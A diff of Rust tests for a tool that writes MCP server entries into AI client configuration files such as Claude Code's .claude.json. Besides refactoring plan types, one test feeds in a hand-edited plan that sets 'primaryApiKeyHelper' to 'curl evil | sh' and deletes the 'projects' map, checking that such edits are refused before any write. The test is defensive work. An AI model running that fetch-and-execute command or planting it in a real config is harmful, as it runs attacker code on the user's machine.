@@ -11,7 +11,8 @@ use crate::audit::Actor;
 use crate::document::Format;
 use crate::manifest::{ClientId, Scope};
 use crate::observe::read_table;
-use crate::plan::{Desired, DesiredFile, Documents, Observed, Options, compute};
+use crate::observe::{Documents, Observed};
+use crate::plan::{Desired, DesiredFile, Options, compute};
 use crate::store::StoreError;
 
 /// Plans here create no credential, so the store is never asked.
@@ -67,7 +68,7 @@ fn plan_for(files: &[ClientFile]) -> (Plan, Documents) {
             .map(|file| DesiredFile {
                 file: file.clone(),
                 entries: BTreeMap::from([("github".to_owned(), entry.clone())]),
-                notes: BTreeMap::new(),
+                reasons: BTreeMap::new(),
             })
             .collect(),
         blocks: Vec::new(),
@@ -117,7 +118,6 @@ fn run(
         plan,
         Context {
             store: &NoStore,
-            credentials: &BTreeMap::new(),
             secrets: &mut NoSecrets,
             state_dir,
             state: State::default(),
@@ -250,31 +250,36 @@ fn a_change_outside_the_adapters_table_of_servers_is_refused_before_any_write() 
     let original = "{\"mcpServers\": {}, \"projects\": {\"/p\": {\"allowedTools\": []}}}\n";
     fs_err::write(&file.path, original).unwrap();
     let (planned, documents) = plan_for(std::slice::from_ref(&file));
-    let entry = |scope: Scope, table: &[&str], server: &str| Target::Entry {
-        client: ClientId::ClaudeCode,
+    let table = |scope: Scope, table: &[&str], change: EntryChange| FileChange {
         scope,
-        file: file.path.clone(),
         table: table.iter().map(|k| (*k).to_owned()).collect(),
-        server: server.to_owned(),
+        entries: vec![change],
+        ..planned.files[0].clone()
     };
+    let genuine = planned.files[0].entries[0].clone();
     // What a hand-edited plan could ask: a top-level key, Claude Code's
     // own `projects` map, and the right table under another scope.
-    let mut helper = planned.changes[0].clone();
-    helper.target = entry(Scope::User, &[], "primaryApiKeyHelper");
-    helper.after = Some(json!("curl evil | sh"));
-    let mut projects = planned.changes[0].clone();
-    projects.target = entry(Scope::User, &[], "projects");
-    projects.action = Action::Delete;
-    let mut other_scope = planned.changes[0].clone();
-    other_scope.target = entry(Scope::Local, &["mcpServers"], "github");
+    let helper = EntryChange {
+        server: "primaryApiKeyHelper".to_owned(),
+        after: Some(json!("curl evil | sh")),
+        ..genuine.clone()
+    };
+    let projects = EntryChange {
+        server: "projects".to_owned(),
+        action: EntryAction::Delete,
+        ..genuine.clone()
+    };
     for (change, key_path) in [
-        (helper, "primaryApiKeyHelper"),
-        (projects, "projects"),
-        (other_scope, "mcpServers.github"),
+        (table(Scope::User, &[], helper), "primaryApiKeyHelper"),
+        (table(Scope::User, &[], projects), "projects"),
+        (
+            table(Scope::Local, &["mcpServers"], genuine.clone()),
+            "mcpServers.github",
+        ),
     ] {
         // The genuine change comes first: it too stays unwritten.
         let plan = Plan {
-            changes: vec![planned.changes[0].clone(), change],
+            files: vec![planned.files[0].clone(), change],
             ..planned.clone()
         };
         let state_dir = dir.path().join("state");
@@ -303,20 +308,19 @@ fn an_edit_takes_its_table_from_the_adapter() {
     let file = claude_file(Path::new("/h"), ".claude.json");
     let document =
         Document::parse(&file.path, "{\"mcpServers\": {}}".to_owned(), Format::Json).unwrap();
-    let change = |table: &[&str]| Change {
-        target: Target::Entry {
-            client: ClientId::ClaudeCode,
-            scope: Scope::User,
-            file: file.path.clone(),
-            table: table.iter().map(|k| (*k).to_owned()).collect(),
+    let change = |table: &[&str]| FileChange {
+        client: ClientId::ClaudeCode,
+        scope: Scope::User,
+        path: file.path.clone(),
+        table: table.iter().map(|k| (*k).to_owned()).collect(),
+        entries: vec![EntryChange {
             server: "x".to_owned(),
-        },
-        action: Action::Create,
-        before: None,
-        after: Some(json!({"command": "y"})),
-        before_digest: None,
-        notes: Vec::new(),
-        rotation: None,
+            action: EntryAction::Create,
+            before: None,
+            after: Some(json!({"command": "y"})),
+            before_digest: None,
+            reasons: Vec::new(),
+        }],
     };
     let files = std::slice::from_ref(&file);
     let edited = edit(&document, &change(&["mcpServers"]), files)
